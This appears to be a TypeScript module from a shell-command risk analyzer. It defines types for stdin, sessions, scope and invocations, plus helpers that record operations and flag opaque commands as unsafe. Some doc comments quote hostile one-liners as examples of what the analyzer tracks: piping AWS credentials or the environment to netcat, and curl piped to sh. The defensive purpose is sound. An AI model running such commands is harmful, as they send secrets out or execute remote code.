import type { BlastRadius, Reversibility } from "../../action/decision.js";
import type { CodeLanguage } from "../code/grammars.js";
import type { Analysis, Effect, Operation } from "../types.js";
import type { DelegatedAction } from "./delegates.js";
import type { ShellState } from "./state.js";
import type { Word } from "./words.js";

/** What feeds a command's standard input, when the walker could see it. */
export type Stdin =
  | { kind: "none" }
  /** `secret`: the text or file is credentials (`cat ~/.aws/credentials | nc host 1`). */
  | { kind: "text"; text: string; known: boolean; secret?: boolean }
  /** Another command's output (`curl … | sh`): `source` is that command's argv. */
  /** `secret`: some earlier stage read credentials (`env | base64 | nc host 1`). */
  | { kind: "pipe"; source: Word[]; secret?: boolean }
  | { kind: "file"; path: string; secret?: boolean };

/** Shared by everything one Action's analysis does. */
export interface Session {
  operations: Operation[];
  notes: string[];
  envHints: string[];
  /** Worst status reached so far. */
  status: Analysis["status"];
  /** Work left before we give up and fail closed (nodes visited, lines re-parsed). */
  work: number;
  /** Loop bodies still to analyse once per known item; after that a body is analysed once, item unknown. */
  loopPasses: number;
  /** Delegated actions whose analyzer was not loaded yet: loaded, then the line is analysed again. */
  wanted: DelegatedAction[];
  /** Grammars of interpreter code the line holds that were not loaded yet (or failed to load). */
  wantedGrammars: CodeLanguage[];
}

/** Where a command runs: on this machine, or remotely (ssh, kubectl exec, docker exec). */
export interface Scope {
  /** Re-parse nesting (sh -c inside ssh inside …). */
  depth: number;
  /** Hints that replace "local" for commands run elsewhere. */
  remote: string[] | null;
}

/** One simple command, after wrappers were taken off, handed to a tool family. */
export interface Invocation {
  program: string;
  args: Word[];
  /** Values of `args` (unknown parts as written, e.g. `$X`). */
  argv: string[];
  /** `VAR=value` written before the command. */
  env: Map<string, string>;
  stdin: Stdin;
  state: ShellState;
  scope: Scope;
  session: Session;
  /** What the command prints, when its handler can tell (`echo …`, a wrapper's inner command). */
  stdout?: Stdin;
  /** Analyse another shell line (sh -c, ssh host CMD) in this scope, one level deeper. */
  reparse(source: string, scope?: Scope, state?: ShellState): void;
  /** Whether the analyzer has rules for a program (`npx cdk` is cdk; `npx my-script` is just local work). */
  knows(program: string): boolean;
  /** Analyse a command given as words (sudo CMD, xargs CMD, find -exec CMD); returns what it prints. */
  dispatch(args: Word[], stdin?: Stdin): Stdin | undefined;
}

export interface OpSpec {
  name: string;
  effect: Effect;
  summary: string;
  reversibility?: Reversibility;
  blastRadius?: BlastRadius;
  targets?: Operation["targets"];
  tags?: string[];
  envHints?: string[];
  opaque?: boolean;
}

/** Record an operation; commands run remotely get the remote names instead of "local". */
export function emit(inv: Pick<Invocation, "scope" | "session">, spec: OpSpec): void {
  let hints = spec.envHints ?? [];
  if (inv.scope.remote) {
    hints = [...hints.filter((h) => h !== "local"), ...inv.scope.remote];
  }
  const op: Operation = {
    kind: "shell",
    name: spec.name,
    effect: spec.effect,
    summary: spec.summary,
    reversibility: spec.reversibility ?? "reversible",
    blastRadius: spec.blastRadius ?? (spec.effect === "read" ? "none" : "resource"),
    targets: spec.targets ?? [],
  };
  if (spec.opaque) op.opaque = true;
  if (spec.tags && spec.tags.length > 0) op.tags = [...new Set(spec.tags)];
  if (hints.length > 0) op.envHints = [...new Set(hints)];
  inv.session.operations.push(op);
}

/** Operations from a delegated analyzer (sql, aws, k8s, http) keep their own kind. */
export function emitDelegated(inv: Pick<Invocation, "scope" | "session">, analysis: Analysis): void {
  for (const op of analysis.operations) {
    // A copy: the delegated analysis may be remembered and handed out again.
    const copy: Operation = { ...op, targets: op.targets.map((t) => ({ ...t })) };
    if (op.tags) copy.tags = [...op.tags];
    const hints = [...(op.envHints ?? []), ...analysis.envHints, ...(inv.scope.remote ?? [])];
    if (hints.length > 0) copy.envHints = [...new Set(hints)];
    inv.session.operations.push(copy);
  }
  inv.session.notes.push(...analysis.notes);
  if (analysis.status !== "complete") markStatus(inv.session, analysis.status);
}

const STATUS_RANK: Record<Analysis["status"], number> = { complete: 0, partial: 1, opaque: 2, limited: 3 };
export function markStatus(session: Session, status: Analysis["status"]): void {
  if (STATUS_RANK[status] > STATUS_RANK[session.status]) session.status = status;
}

/** Something we cannot see through: never safe. */
export function emitOpaque(
  inv: Pick<Invocation, "scope" | "session">,
  name: string,
  summary: string,
  extra: Partial<OpSpec> = {},
): void {
  emit(inv, {
    name,
    effect: "execute",
    summary,
    reversibility: "irreversible",
    blastRadius: "environment",
    opaque: true,
    ...extra,
  });
  markStatus(inv.session, "partial");
}
